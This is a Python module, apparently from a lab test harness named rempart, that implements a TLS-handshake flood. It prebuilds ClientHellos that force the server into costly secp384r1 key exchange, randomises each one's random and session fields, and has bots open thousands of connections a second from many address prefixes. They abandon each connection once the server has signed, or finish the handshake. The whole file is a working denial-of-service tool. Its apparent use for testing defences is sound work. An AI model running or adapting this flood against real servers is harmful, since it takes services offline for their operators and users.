"""TLS-handshake flood: the edge must sign for each, which costs it far more than the bot's greeting costs the
bot. Bots greet, wait until the edge has answered with its signature, and leave; or go through with it.

Greetings leave the edge no choice but the dearest group for the exchange of keys that servers take by
themselves. The bots made their part of it beforehand."""

from __future__ import annotations

import random
import ssl

from rempart.lab.attacks.contract import Attack, Order, Sources, Unit
from rempart.lab.attacks.dialling import Dialler, DialParameters, Manner
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender
from rempart.lab.clients.connecting import careless_tls

GROUP = "secp384r1"
"""RFC 8446 section 4.2.7. OpenSSL 3.0 works some 1.2 ms on a server's part, twenty times X25519's."""
GREETINGS = 64
"""Greetings are made beforehand; each is sent with a random number and a session of its own."""
HANDSHAKE = b"\x16\x03"
"""What the edge's part of the handshake begins with (RFC 8446 section 5.1); a refusal is an alert."""
_RANDOM_AT, _SESSION_LENGTH_AT = 11, 43
_SESSION_LENGTH = 32


class TlsHandshakeFlood(DialParameters):
    """How far the bots go."""

    complete: bool = False
    """Finish the handshake before leaving: each then costs the bot as much as the edge."""


TLS_HANDSHAKE_FLOOD = Attack(
    name="tls-handshake-flood",
    unit=Unit.CONNECTIONS,
    summary="TLS handshakes left off when the edge has signed, from tens of thousands of addresses",
    defaults=TlsHandshakeFlood(rate=2_500, sources=Sources.PREFIXES, v6_share=0.2, hold_s=0),
    sender=lambda order: own_sender(order, "tls_handshake_flood"),
)


def greeting(host: str) -> bytes:
    """A ClientHello for a host (RFC 8446 section 4.1.2), as OpenSSL sends it."""
    arriving, leaving = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = careless_tls("h2", "http/1.1")
    context.set_ecdh_curve(GROUP)
    client = context.wrap_bio(arriving, leaving, server_hostname=host)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        return leaving.read()
    raise AssertionError("a handshake without the other side")


def renewed(hello: bytes, chosen: random.Random) -> bytes:
    """The same greeting of another client: with another random number and session."""
    fresh = bytearray(hello)
    fresh[_RANDOM_AT : _RANDOM_AT + 32] = chosen.randbytes(32)
    if hello[_SESSION_LENGTH_AT] == _SESSION_LENGTH:
        begin = _SESSION_LENGTH_AT + 1
        fresh[begin : begin + _SESSION_LENGTH] = chosen.randbytes(_SESSION_LENGTH)
    return bytes(fresh)


def manner(order: Order, parameters: TlsHandshakeFlood) -> Manner:
    """What the bots do."""
    if parameters.complete:
        return Manner(context=careless_tls("h2", "http/1.1"))
    greetings = [greeting(order.target.host) for _ in range(GREETINGS)]

    def first(chosen: random.Random) -> bytes:
        return renewed(chosen.choice(greetings), chosen)

    return Manner(first=first, awaits=HANDSHAKE)


def carry_out(order: Order, tally: Tally) -> None:
    parameters = TlsHandshakeFlood.model_validate(order.parameters)
    Dialler(order, parameters, manner(order, parameters), tally).run()


if __name__ == "__main__":
    run_sender(carry_out)
